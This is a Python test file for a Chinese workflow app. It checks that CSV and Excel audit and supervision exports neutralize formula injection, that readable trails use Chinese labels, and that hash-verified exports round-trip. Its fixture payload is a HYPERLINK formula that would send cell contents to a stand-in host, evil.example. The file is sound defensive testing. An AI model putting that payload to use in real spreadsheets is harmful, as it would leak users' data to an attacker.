"""Exports are data, never formulas (issue 16.1), and the auditor's trail is readable Chinese (issue 15.8).

Each leading character a spreadsheet program reads as the start of a formula (= + - @, and tab / CR) is
put at the start of a comment and of a form field, and of an organization's name, then every export is
opened the way a spreadsheet program would see it: no text cell may begin with one of them, no .xlsx cell
may be a formula. The verifiable export still round-trips: the hashes verify and the text comes back
exactly as typed.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import text

from flowengine.demo import DEMO_PASSWORD, load_demo
from flowengine.service import Services
from flowengine.service.audit.ledger import read_export, verify_events
from flowengine.spreadsheet import FORMULA_STARTS, neutral, restore
from flowengine.vocabulary import ROLES
from flowengine.web import create_app
from tests.support import Clock, World
from tests.support.paths import SHIPPED_WORKFLOWS
from tests.support.supervision import NOW
from tests.support.web import GOOD_DATA, Browser

PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def _csv_cells(raw: bytes) -> list[list[str]]:
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _xlsx_cells(raw: bytes) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_formula_csv(raw: bytes) -> list[list[str]]:
    rows = _csv_cells(raw)
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not bad, bad
    return rows


def _assert_no_formula_xlsx(raw: bytes) -> list[tuple[object, str]]:
    cells = _xlsx_cells(raw)
    assert all(t != "f" for _, t in cells), [v for v, t in cells if t == "f"]
    bad = [v for v, _ in cells if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
    assert not bad, bad
    return cells


@pytest.mark.parametrize("ch", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_neutral_is_reversible_and_marks_every_leading_formula_character(ch: str) -> None:
    for value in (ch + PAYLOAD, "'" + ch + PAYLOAD, "''x", "'x", "x" + ch, ch):
        assert restore(neutral(value)) == value
    assert neutral(ch + PAYLOAD) == "'" + ch + PAYLOAD
    assert neutral("普通文字") == "普通文字" and neutral(-3) == -3


@pytest.mark.parametrize("ch", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_trail_exports_hold_formula_text_as_data(
    ch: str,
    browser: Callable[[str | None], Browser],
    services: Services,
    world: World,
    tmp_path: Path,
) -> None:
    comment = f"{ch}{PAYLOAD}"
    iid = services.flow.start("leave_request", world.orgs["b1"], world.users["sec1"], comment=comment).id
    data = {**GOOD_DATA, "reason": f"{ch}SUM(1+1)"}
    services.flow.act(iid, "submit", world.users["sec1"], data, comment, expected_version=1)
    auditor = browser("auditor")

    csv_response = auditor.get(f"/requests/{iid}/trail.csv")
    assert csv_response.status_code == 200 and csv_response.mimetype == "text/csv"
    rows = _assert_no_formula_csv(csv_response.get_data())
    comments = [r[rows[0].index("意见或说明")] for r in rows[1:]]
    stored = [e.comment or "" for e in services.flow.trail(iid, world.users["auditor"])]
    assert stored[0] == comment  # (a step's comment is stripped of surrounding blanks; the start's is not)
    assert comments == [neutral(c) for c in stored]  # shown as text: what was typed, after the mark

    xlsx = auditor.get(f"/requests/{iid}/trail.xlsx")
    assert xlsx.status_code == 200 and "attachment" in xlsx.headers["Content-Disposition"]
    values = [v for v, _ in _assert_no_formula_xlsx(xlsx.get_data())]
    assert "'" + comment in values

    # The verifiable CSV of the CLI: neutral too, yet its hashes verify and the text comes back exactly.
    out = io.StringIO()
    services.ledger.export(out, "csv", instance_ids=[iid])
    path = tmp_path / "verifiable.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    _assert_no_formula_csv(path.read_bytes())
    events = read_export(path)
    assert verify_events(events).ok
    assert [e["comment"] or "" for e in events] == stored
    reasons = [
        e.data["reason"]
        for e in services.flow.trail(iid, world.users["auditor"])
        if e.kind == "action" and e.data
    ]
    assert [e["data"]["reason"] for e in events if e["kind"] == "action"] == reasons


def test_readable_trail_is_in_chinese_and_json_keeps_codes_and_hashes(
    browser: Callable[[str | None], Browser], services: Services, world: World, tmp_path: Path
) -> None:
    iid = services.flow.start("leave_request", world.orgs["b1"], world.users["sec1"]).id
    services.flow.act(iid, "submit", world.users["sec1"], GOOD_DATA, "请审批", expected_version=1)
    services.flow.act(iid, "approve", world.users["handler"], comment="同意", expected_version=2)
    definition = services.flow.definition_of(iid, world.users["auditor"])
    auditor = browser("auditor")

    rows = _csv_cells(auditor.get(f"/requests/{iid}/trail.csv").get_data())
    head, body = rows[0], rows[1:]
    assert head[:6] == ["序号", "时间（北京时间）", "记录类型", "办理人", "角色", "所在组织"]
    col = {h: i for i, h in enumerate(head)}
    submit = next(r for r in body if r[col["办理事项"]] == definition.action("submit").title)
    with services.db.read() as s:
        sec1_name = s.execute(
            text("SELECT display_name FROM users WHERE id = :i"), {"i": world.users["sec1"]}
        ).scalar()
        b1_name = s.execute(
            text("SELECT name FROM organizations WHERE id = :i"), {"i": world.orgs["b1"]}
        ).scalar()
    assert submit[col["办理人"]] == sec1_name and submit[col["所在组织"]] == b1_name
    assert submit[col["角色"]] == ROLES["secretary"] != "secretary"
    # Step titles, not state codes; field labels and Chinese dates, not JSON.
    assert submit[col["原步骤"]] == definition.state(definition.action("submit").sources[0]).title
    filled = submit[col["填写内容"]]
    labels = {f.name: f.label for f in definition.action("submit").form}
    assert f"{labels['reason']}：参加市委教育工委组织的专题培训" in filled
    assert "2026年9月23日" in filled and "刘洋" in filled and "{" not in filled
    everything = "".join("".join(r[:11]) for r in body)
    for code in ("secretary", "handler", "submit", "approve", "record_", '"reason"', "actor_id"):
        assert code not in everything, code
    assert any(r[col["记录类型"]] == "批准" or r[col["意见或说明"]] == "同意" for r in body)

    sheet = openpyxl.load_workbook(io.BytesIO(auditor.get(f"/requests/{iid}/trail.xlsx").get_data())).active
    assert sheet is not None
    xrows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert [str(v) for v in xrows[0]] == head and len(xrows) == len(rows)

    # JSON: the codes and hashes, verifiable offline.
    response = auditor.get(f"/requests/{iid}/trail.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    doc = json.loads(response.get_data())
    assert {e["kind"] for e in doc["events"]} >= {"start", "action", "approve"}
    assert {e["role"] for e in doc["events"] if e["role"]} >= {"secretary", "handler"}
    assert all(len(e["hash"]) == 64 for e in doc["events"])
    path = tmp_path / "trail.json"
    path.write_bytes(response.get_data())
    assert verify_events(read_export(path)).ok

    assert browser("sec2").get(f"/requests/{iid}/trail.xlsx").status_code == 404
    assert browser("sec2").get(f"/requests/{iid}/trail.json").status_code == 404


@pytest.fixture
def demo_app(make_services: Callable[..., Services], clock: Clock) -> tuple[Flask, Services]:
    clock.now = NOW
    services = make_services(SHIPPED_WORKFLOWS)
    load_demo(services, clock())
    return create_app(services, config={"SECRET_KEY": "test-secret", "TESTING": True}), services


def test_supervision_exports_hold_formula_text_as_data(demo_app: tuple[Flask, Services]) -> None:
    """Every organization's name is made to begin with a formula character (each character in turn): the
    overview's CSV and .xlsx and a procedure's metric workbook hold them as text."""
    app, services = demo_app
    with services.db.write() as s:
        ids = [r[0] for r in s.execute(text("SELECT id FROM organizations ORDER BY id"))]
        for i, org_id in enumerate(ids):
            ch = FORMULA_STARTS[i % len(FORMULA_STARTS)]
            s.execute(
                text("UPDATE organizations SET name = :n WHERE id = :i"),
                {"n": f"{ch}{PAYLOAD}{i}", "i": org_id},
            )
    b = Browser(app.test_client())
    assert b.login("sunli", DEMO_PASSWORD).status_code == 302

    def marked(values: list[object]) -> set[str]:
        """The formula characters seen (behind their mark) at the start of the cells."""
        return {v[1] for v in values if isinstance(v, str) and v.startswith("'") and v[1:2] in FORMULA_STARTS}

    rows = _assert_no_formula_csv(b.get("/supervision/export.csv").get_data())
    assert marked([c for r in rows for c in r]) == set(FORMULA_STARTS)
    cells = _assert_no_formula_xlsx(b.get("/supervision/export.xlsx").get_data())
    assert marked([v for v, _ in cells]) == set(FORMULA_STARTS)
    metric = b.get("/supervision/decisions.xlsx?from=2026-01-01&to=2026-12-31")
    assert metric.status_code == 200
    assert marked([v for v, _ in _assert_no_formula_xlsx(metric.get_data())])


def test_readable_trail_names_the_people_a_reminder_went_to(
    browser: Callable[[str | None], Browser], services: Services, world: World, clock: Clock
) -> None:
    iid = services.flow.start("leave_request", world.orgs["b1"], world.users["sec1"]).id
    services.flow.act(iid, "submit", world.users["sec1"], GOOD_DATA, expected_version=1)
    clock.advance(days=2, hours=12)
    assert services.escalator.sweep().reminders == 1
    rows = _csv_cells(browser("auditor").get(f"/requests/{iid}/trail.csv").get_data())
    col = {h: i for i, h in enumerate(rows[0])}
    [reminder] = [r for r in rows[1:] if r[col["记录类型"]] == "催办提醒"]
    with services.db.read() as s:
        handler = s.execute(
            text("SELECT display_name FROM users WHERE id = :i"), {"i": world.users["handler"]}
        ).scalar()
    assert f"通知：{handler}" in reminder[col["填写内容"]]
    assert "recipients" not in reminder[col["填写内容"]] and "_id" not in reminder[col["填写内容"]]
